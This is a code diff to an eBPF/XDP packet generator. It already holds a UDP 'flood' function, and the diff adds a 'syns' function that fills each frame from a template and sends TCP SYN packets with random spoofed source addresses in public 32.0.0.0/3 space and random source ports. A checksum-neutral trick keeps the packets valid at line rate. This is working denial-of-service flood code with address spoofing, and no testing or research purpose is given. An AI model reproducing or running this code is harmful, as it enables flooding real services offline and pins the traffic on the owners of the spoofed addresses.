@@ -8,6 +8,7 @@
 #include <linux/bpf.h>
 #include <linux/if_ether.h>
 #include <linux/ip.h>
+#include <linux/tcp.h>
 #include <linux/udp.h>
 #include <bpf/bpf_endian.h>
 #include <bpf/bpf_helpers.h>
@@ -102,6 +103,29 @@ int flood(struct xdp_md *ctx)
 		udp->dest = bpf_htons((__u16)(first_port + turn));
 		turn = turn + 1 < ports ? turn + 1 : 0;
 	}
+	return out ? bpf_redirect(out, 0) : XDP_DROP;
+}
+
+/* Sends SYNs, each from another address in 32.0.0.0/3 and another port. No checksum changes: of two
+ * words of 16 bits, one is what the other is not. */
+SEC("xdp")
+int syns(struct xdp_md *ctx)
+{
+	struct ethhdr *eth = (void *)(long)ctx->data;
+	struct iphdr *ip = (void *)(eth + 1);
+	struct tcphdr *tcp = (void *)(ip + 1);
+	__u32 any = bpf_get_prandom_u32();
+	__u16 *source = (void *)&ip->saddr, *seq = (void *)&tcp->seq;
+	__u64 *to = (void *)eth;
+
+	if ((void *)(to + HEAD / 8) > (void *)(long)ctx->data_end)
+		return XDP_ABORTED;
+	for (int i = 0; i < HEAD / 8; i++)
+		to[i] = head[i];
+	source[0] = bpf_htons(0x2000 | (any & 0x1fff));
+	source[1] = ~source[0];
+	tcp->source = (__u16)(any >> 16);
+	seq[0] = ~tcp->source;
 	return out ? bpf_redirect(out, 0) : XDP_DROP;
 }
 
